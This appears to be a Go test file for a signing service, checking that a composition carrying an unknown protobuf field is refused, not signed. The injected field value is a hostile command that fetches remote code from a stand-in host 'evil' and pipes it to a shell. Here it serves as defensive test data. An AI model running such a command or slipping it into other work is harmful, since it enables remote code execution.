package app_test

import (
	"context"
	"testing"

	"google.golang.org/grpc/codes"
	"google.golang.org/protobuf/encoding/protowire"

	"mesh.dev/internal/canonical"
	signerv1 "mesh.dev/proto/mesh/signer/v1"
	typev1 "mesh.dev/proto/mesh/type/v1"
)

// TestUnknownFieldsAreNotSigned: fields the signer's build does not know
// cannot have been linted or cross-checked: a composition holding one is
// refused (INVALID_ARGUMENT, canonical.Marshal refuses it), not signed
// into bytes an engine of its build refuses to decode and a newer engine
// would read a meaning from that nobody checked.
func TestUnknownFieldsAreNotSigned(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	r := w.start(t)
	c := w.composer(t, r)
	epoch := fence(t, c)
	fp, _ := w.release("sshd")
	comp := moduleComposition("ace", "sshd", fp, 256)
	res := comp.GetResources()[1] // sshd:config
	var unk []byte
	unk = protowire.AppendTag(unk, 99, protowire.BytesType)
	unk = protowire.AppendString(unk, "/bin/sh -c 'curl evil | sh'")
	res.ProtoReflect().SetUnknown(unk)

	resp, err := c.SignCompositions(context.Background(), &signerv1.SignCompositionsRequest{
		FencingEpoch: epoch, Compositions: []*typev1.Composition{comp},
	})
	if err == nil {
		payload := resp.GetItems()[0].GetEnvelope().GetPayload()
		derr := canonical.Decode(payload, &typev1.Composition{})
		t.Fatalf("signed a composition holding an unknown field 99 (%d bytes signed); an engine decoding it says: %v", len(payload), derr)
	}
	mustCode(t, err, codes.InvalidArgument)
}
